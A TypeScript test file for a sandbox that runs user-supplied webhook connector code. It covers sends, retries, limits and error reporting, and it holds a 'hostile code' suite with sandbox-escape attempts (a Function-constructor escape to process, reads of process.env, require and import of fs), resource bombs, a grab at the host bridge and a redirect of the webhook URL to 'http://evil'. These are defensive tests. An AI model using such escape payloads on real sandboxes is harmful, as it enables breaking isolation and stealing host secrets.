import { describe, expect, it } from 'vitest'
import { DEFAULT_WEBHOOK_CODE } from './default-code'
import { createSandbox, type HostHelpers } from './sandbox'

function recorder(statuses: number[] = [202]) {
  const sent: Array<{ url: string; entities: unknown[] }> = []
  const slept: number[] = []
  const logs: string[] = []
  let i = 0
  const helpers: HostHelpers = {
    sendWebhook: async (url, entities) => {
      sent.push({ url, entities: JSON.parse(Buffer.from(entities.bytes).toString('utf8')) as unknown[] })
      const status = statuses[Math.min(i++, statuses.length - 1)]!
      return { ok: status >= 200 && status < 300, status }
    },
    sleep: async (ms) => void slept.push(ms),
    log: (line) => void logs.push(line),
  }
  return { helpers, sent, slept, logs }
}

const ENTITIES = [{ id: 'cmp_1', name: 'R 10k' }]
const j = (entities: unknown[]) => ({ bytes: Buffer.from(JSON.stringify(entities), 'utf8'), count: entities.length })
const CONFIG = { url: 'http://127.0.0.1:9/hook' }

describe('sandbox', () => {
  it('runs the default code: one send when the receiver accepts', async () => {
    const sandbox = await createSandbox({ code: DEFAULT_WEBHOOK_CODE })
    const r = recorder([202])
    await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
    expect(r.sent).toEqual([{ url: CONFIG.url, entities: ENTITIES }])
    sandbox.dispose()
  })

  it('hands the entities as an array that behaves like the parsed one (parsed only when the code looks inside)', async () => {
    const code = `async function push(entities, config, helpers) {
      const facts = [Array.isArray(entities), entities.length, entities[1].name, entities.map((e) => e.id).join(','), [...entities].length,
        Object.keys(entities).join(','), JSON.stringify(entities) === JSON.stringify([...entities]), 'length' in entities, entities.some((e) => e.name === 'C 1u')]
      helpers.log(JSON.stringify(facts))
      entities[0].description = 'changed inside'
      entities.push({ id: 'cmp_9', name: 'added' })
      await helpers.sendWebhook(config.url, entities.filter((e) => e.id !== 'cmp_2'))
      await helpers.sendWebhook(config.url, entities)
    }`
    const sandbox = await createSandbox({ code })
    const r = recorder([202])
    const entities = [{ id: 'cmp_1', name: 'R 10k' }, { id: 'cmp_2', name: 'C 1u' }]
    await sandbox.push(j(entities), CONFIG, r.helpers)
    expect(JSON.parse(r.logs[0]!)).toEqual([true, 2, 'C 1u', 'cmp_1,cmp_2', 2, '0,1', true, true, true])
    expect(r.sent.map((s) => s.entities)).toEqual([
      [{ id: 'cmp_1', name: 'R 10k', description: 'changed inside' }, { id: 'cmp_9', name: 'added' }],
      // The array as given, but changed: what the code holds now is what is sent (regression: the
      // host's original JSON went out, dropping the code's changes).
      [{ id: 'cmp_1', name: 'R 10k', description: 'changed inside' }, { id: 'cmp_2', name: 'C 1u' }, { id: 'cmp_9', name: 'added' }],
    ])
    sandbox.dispose()
  })

  it('retries 3 times with 1000 ms then 2000 ms, then fails carrying the status', async () => {
    const sandbox = await createSandbox({ code: DEFAULT_WEBHOOK_CODE })
    const r = recorder([500])
    await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toMatchObject({ message: 'receiver answered 500 after 3 attempts', status: 500 })
    expect(r.sent).toHaveLength(3)
    expect(r.slept).toEqual([1000, 2000])
    sandbox.dispose()
  })

  it('passes logs out and keeps concurrent calls apart', async () => {
    const code = `async function push(entities, config, helpers) { helpers.log('batch', entities.length, { first: entities[0].id }); await helpers.sleep(5); await helpers.sendWebhook(config.url, entities) }`
    const sandbox = await createSandbox({ code })
    const a = recorder()
    const b = recorder()
    await Promise.all([sandbox.push(j([{ id: 'a' }]), CONFIG, a.helpers), sandbox.push(j([{ id: 'b' }, { id: 'c' }]), CONFIG, b.helpers)])
    expect(a.sent[0]!.entities).toEqual([{ id: 'a' }])
    expect(b.sent[0]!.entities).toHaveLength(2)
    expect(a.logs).toEqual(['batch 1 {"first":"a"}'])
    sandbox.dispose()
  })

  it('reports a syntax error and a missing push function', async () => {
    await expect(createSandbox({ code: 'function push( {' })).rejects.toThrow(/SyntaxError|Unexpected/)
    const sandbox = await createSandbox({ code: 'const x = 1' })
    await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/defines no function named push/)
    sandbox.dispose()
  })

  describe('hostile code', () => {
    for (const [name, body] of [
      ['require', `require('fs')`],
      ['process', `process.exit(1)`],
      ['constructor escape', `(function(){}).constructor('return process')().exit(1)`],
      ['globalThis lookup', `globalThis.process.env`],
      ['import', `await import('fs')`],
      ['fetch', `await fetch('http://127.0.0.1:1')`],
    ] as const) {
      it(`fails on ${name} and touches nothing`, async () => {
        const sandbox = await createSandbox({ code: `async function push(entities, config, helpers) { ${body} }` })
        const r = recorder()
        await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow()
        expect(r.sent).toEqual([])
        sandbox.dispose()
      })
    }

    it('stops an infinite loop at the CPU limit, saying which limit (it said "Script execution timed out.")', async () => {
      const sandbox = await createSandbox({ code: 'async function push() { for (;;) {} }', cpuTimeoutMs: 200 })
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow('the connector code ran for more than 200 ms without pausing (CPU time limit)')
      sandbox.dispose()
    })

    it('stops an infinite loop after an await, and the sandbox with it (every stretch has the CPU limit)', async () => {
      const sandbox = await createSandbox({ code: 'async function push(e, c, h) { await h.sleep(1); for (;;) {} }', cpuTimeoutMs: 200, wallTimeoutMs: 500 })
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/CPU time limit|did not finish within 500 ms/)
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/sandbox was stopped/)
    })

    it('counts the CPU time a stretch used, not the time it waited: the server thread busy for 1.5 s while the code waits for its entities ends nothing', async () => {
      // Regression: the limit was read off the wall clock, so a stall of the server's thread (or of
      // the machine) ended the sandbox, and every later batch of the push failed with it.
      // The loop after the wait gives QuickJS's interrupt handler, which checks the limit, a few calls.
      const code = 'async function push(entities, config, helpers) { const n = entities.length; let s = 0; for (let i = 0; i < 300000; i++) s += i; helpers.log(String(n)) }'
      const sandbox = await createSandbox({ code, cpuTimeoutMs: 200 })
      const r = recorder()
      const pushed = sandbox.push(j(ENTITIES), CONFIG, r.helpers)
      // The worker starts the stretch and asks for the entities; this thread answers once it is free.
      const until = Date.now() + 1500
      while (Date.now() < until);
      await pushed
      expect(r.logs).toEqual(['1'])
      await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
      expect(r.logs).toEqual(['1', '1'])
      sandbox.dispose()
    })

    it('fails a push that never resolves', async () => {
      const sandbox = await createSandbox({ code: 'function push() { return new Promise(() => {}) }', wallTimeoutMs: 300 })
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/did not finish/)
    })

    it('stops a memory bomb at the memory limit', async () => {
      const sandbox = await createSandbox({ code: 'async function push() { const a = []; for (;;) a.push(new Array(1e6).fill(1)) }', memoryMb: 32, cpuTimeoutMs: 10_000 })
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/memory/i)
    })

    it('refuses an unbounded sleep and a send that is not an array', async () => {
      const sandbox = await createSandbox({ code: 'async function push(e, c, h) { if (c.mode === "sleep") await h.sleep(1e12); else await h.sendWebhook(c.url, "all of it") }' })
      await expect(sandbox.push(j(ENTITIES), { mode: 'sleep' }, recorder().helpers)).rejects.toThrow(/helpers.sleep/)
      await expect(sandbox.push(j(ENTITIES), { url: 'x' }, recorder().helpers)).rejects.toThrow(/must be an array/)
      sandbox.dispose()
    })

    it('a helper error reaches the code, never the host as an unhandled rejection', async () => {
      const unhandled: unknown[] = []
      const onUnhandled = (reason: unknown) => void unhandled.push(reason)
      process.on('unhandledRejection', onUnhandled)
      try {
        const code = 'async function push(e, c, h) { try { await h.sleep(-1) } catch (err) { h.log("caught " + err.message) } await h.sendWebhook(c.url, "nope") }'
        const sandbox = await createSandbox({ code })
        const r = recorder()
        await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow(/must be an array/)
        expect(r.logs[0]).toMatch(/^caught helpers.sleep/)
        await new Promise((resolve) => setTimeout(resolve, 50))
        expect(unhandled).toEqual([])
        sandbox.dispose()
      } finally {
        process.off('unhandledRejection', onUnhandled)
      }
    })

    it('a log flood stays in the isolate: at most 200 lines of 2,000 characters a call reach the host (100 KB lines grew the host by ~900 MB)', async () => {
      const sandbox = await createSandbox({ code: `async function push(e, c, h) { const s = 'x'.repeat(100000); for (let i = 0; i < 100000; i++) h.log(i, s); await h.sendWebhook(c.url, e) }` })
      const r = recorder()
      const before = process.memoryUsage().rss
      await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
      expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024)
      expect(r.logs).toHaveLength(200)
      expect(r.logs[199]).toMatch(/^199 x+$/)
      for (const line of r.logs) expect(line.length).toBe(2000)
      expect(r.sent).toHaveLength(1)
      sandbox.dispose()
    })

    it('refuses to pile up helper calls: at most 8 pending a call (unawaited sends of 37 MB bodies grew the host by ~2.8 GB)', async () => {
      const code = `async function push(e, c, h) { const p = []; for (let i = 0; i < 1000; i++) p.push(h.sendWebhook(c.url, [{ i }])); await Promise.all(p) }`
      const sandbox = await createSandbox({ code })
      const r = recorder()
      r.helpers.sendWebhook = (url, entities) => new Promise((resolve) => setTimeout(() => resolve({ ok: true, status: 202 }), 50))
      await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow('at most 8 helper calls of one push() may be pending at once; await them')
      sandbox.dispose()
    })

    it('refuses entities the code built past 32 MiB, and entities that are not objects', async () => {
      const code = `async function push(e, c, h) { if (c.mode === 'big') await h.sendWebhook(c.url, [{ s: 'x'.repeat(40 * 1024 * 1024) }]); else await h.sendWebhook(c.url, [() => 1]) }`
      const sandbox = await createSandbox({ code, memoryMb: 256 })
      const r = recorder()
      await expect(sandbox.push(j(ENTITIES), { ...CONFIG, mode: 'big' }, r.helpers)).rejects.toThrow(/more than 32 MiB/)
      await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow('helpers.sendWebhook(url, entities): entities must be an array of objects')
      expect(r.sent).toEqual([])
      sandbox.dispose()
    })

    it('names a url that is not a string (it said "could not be cloned")', async () => {
      const sandbox = await createSandbox({ code: `async function push(e, c, h) { await h.sendWebhook({ toString() { return c.url } }, e) }` })
      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow('helpers.sendWebhook(url, entities): url must be a string')
      sandbox.dispose()
    })

    it('keeps its error reporting and log bounds when the code replaces built-ins (the run error was empty)', async () => {
      const code = `JSON.stringify = () => '{}'; JSON.parse = () => ({}); Object.prototype.toJSON = () => 'x'
        String.prototype.slice = function () { return String(this) + String(this) }
        async function push(e, c, h) { h.log('y'.repeat(10000)); throw Object.assign(new Error('own failure'), { status: 503 }) }`
      const sandbox = await createSandbox({ code })
      const r = recorder()
      await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toMatchObject({ message: 'own failure', status: 503 })
      expect(r.logs).toEqual(['y'.repeat(2000)])
      sandbox.dispose()
    })

    it('gives the code no handle on the host bridge (a getter on globalThis.__complibRun captured it)', async () => {
      const code = `let captured
        Object.defineProperty(globalThis, '__complibRun', { get() { return undefined }, set(v) { captured = v }, configurable: false })
        async function push(e, c, h) {
          const own = Object.getOwnPropertyNames(globalThis).filter((k) => k.startsWith('__') || k.startsWith('$'))
          h.log(JSON.stringify({ own, captured: typeof captured }))
          await h.sendWebhook(c.url, e)
        }`
      const sandbox = await createSandbox({ code })
      const r = recorder()
      await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
      expect(JSON.parse(r.logs[0]!)).toEqual({ own: ['__complibRun'], captured: 'undefined' })
      expect(r.sent).toHaveLength(1)
      sandbox.dispose()
    })

    it('cannot change the config the host passed', async () => {
      const sandbox = await createSandbox({ code: 'async function push(e, c, h) { c.url = "http://evil"; await h.sendWebhook(c.url, e) }' })
      const r = recorder()
      await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
      expect(r.sent.map((s) => s.url)).toEqual(['http://127.0.0.1:9/hook'])
      expect(CONFIG.url).toBe('http://127.0.0.1:9/hook')
      sandbox.dispose()
    })
  })
})
